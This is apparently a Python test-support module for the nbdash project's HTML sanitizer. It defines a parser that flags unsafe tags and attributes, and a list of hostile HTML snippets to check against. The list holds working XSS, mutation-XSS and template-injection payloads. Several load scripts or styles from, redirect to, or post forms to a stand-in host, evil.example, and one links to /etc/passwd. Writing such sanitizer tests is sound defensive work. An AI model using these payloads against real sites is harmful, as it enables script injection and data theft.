"""What it means for HTML to be inert, by parsing it; and hostile snippets to try it on."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from nbdash.page.sanitize import TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></article></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\tonerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<img src='data:image/png;base64,AAAA' onload=alert(1)>",
    "<img src=http://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='http://evil.example/a 1x'>",
    "<picture><source srcset=http://evil.example/a><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style scoped>body{background:url(http://evil.example)}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' target=_blank ping=http://evil.example>x</a>",
    "<a href='https://ok.example' class='nb-skip position-fixed w-100 h-100'>x</a>",
    "<form action=http://evil.example><input name=p><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<p id=main name=viewer class='btn nb-button modal show'>x</p>",
    "<table background=javascript:alert(1)><tr><td background=//evil.example>x</td></tr></table>",
    "<td class='row_heading nb-bar fixed-top'>x</td>",
    '<p title="\'><script>alert(1)</script>">x</p>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
]

_LINK = re.compile(r"(?:https?://|mailto:|#)", re.IGNORECASE)
_PICTURE = re.compile(r"data:image/(?:png|jpeg);base64,[A-Za-z0-9+/=]+")
_CLASS = re.compile(r"dataframe|data|blank|index_name|(?:row|col)_heading|(?:level|row|col)\d{1,4}")
_FORBIDDEN = {"id", "name", "style", "srcset", "ping", "target", "background", "formaction", "action"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.troubles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.troubles.append(f"<{tag}>")
        for name, value in attrs:
            if not _is_harmless(name, value or ""):
                self.troubles.append(f"<{tag} {name}={value!r}>")


def _is_harmless(name: str, value: str) -> bool:
    if name == "href":
        return _LINK.match(value) is not None
    if name == "src":
        return _PICTURE.fullmatch(value) is not None
    if name == "class":
        return all(_CLASS.fullmatch(part) for part in value.split())
    return name not in _FORBIDDEN and not name.startswith("on")


def troubles_of(html: str) -> list[str]:
    """Everything in the HTML that a page of nbdash's own must not hold; empty means inert."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.troubles
